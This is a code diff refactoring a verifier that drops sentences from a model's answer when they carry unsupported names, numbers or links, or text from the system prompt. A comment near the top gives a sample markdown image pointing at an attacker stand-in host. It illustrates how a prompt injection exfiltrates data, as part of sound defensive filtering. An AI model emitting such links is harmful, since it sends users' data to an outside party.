@@ -90,14 +90,14 @@ def _entity_pattern(org: Org) -> tuple[re.Pattern[str], dict[str, str]]:
 def unsupported_claims(
     sentence: str,
     org: Org,
-    strings: set[str],
-    numbers: set[float],
-    allowed_numbers: Iterable[float] = (),
+    corpus: str,
+    allowed: set[float],
     allowed_links: frozenset[str] = frozenset(),
 ) -> list[str]:
+    """What in `sentence` the data does not support: names absent from `corpus` (the tool
+    data's strings, casefolded and joined), numbers not in `allowed`, links not allowed."""
     problems = []
     lowered = sentence.casefold()
-    corpus = " | ".join(strings)
     # Links and images come only from the allowlist (the learning catalogue's own URLs):
     # a markdown image is how a prompt injection smuggles data out
     # ("![x](https://evil.example/?d=...)"), and a document's text is not a source of links.
@@ -113,7 +113,6 @@ def unsupported_claims(
         if match.group(1) not in corpus:
             problems.append(written[match.group(1)])
     remaining = pattern.sub(" ", remaining)
-    allowed = set(numbers) | {round(float(n), 4) for n in allowed_numbers}
     for match in NUMBER.finditer(remaining):
         value = round(float(match.group(1)), 4)
         if value not in allowed:
@@ -152,6 +151,9 @@ def verify(
     numbers: set[float] = set()
     for data in tool_data:
         _flatten(data, strings, numbers)
+    # Once per answer, not per sentence: the evidence is the same for every sentence.
+    corpus = " | ".join(strings)
+    allowed = numbers | {round(float(n), 4) for n in allowed_numbers}
     sentences = [s for s in SENTENCE.split(text) if s.strip()]
     kept: list[tuple[str, list[str]]] = []
     dropped: list[tuple[str, list[str]]] = []
@@ -163,7 +165,7 @@ def verify(
             repeated = True  # small models repeat themselves; say each thing once
             continue
         seen.add(sentence.strip())
-        problems = unsupported_claims(sentence, org, strings, numbers, allowed_numbers, links)
+        problems = unsupported_claims(sentence, org, corpus, allowed, links)
         if secret_shingles & _shingles(sentence):
             problems.append("system prompt")
         (dropped if problems else kept).append((sentence, problems))
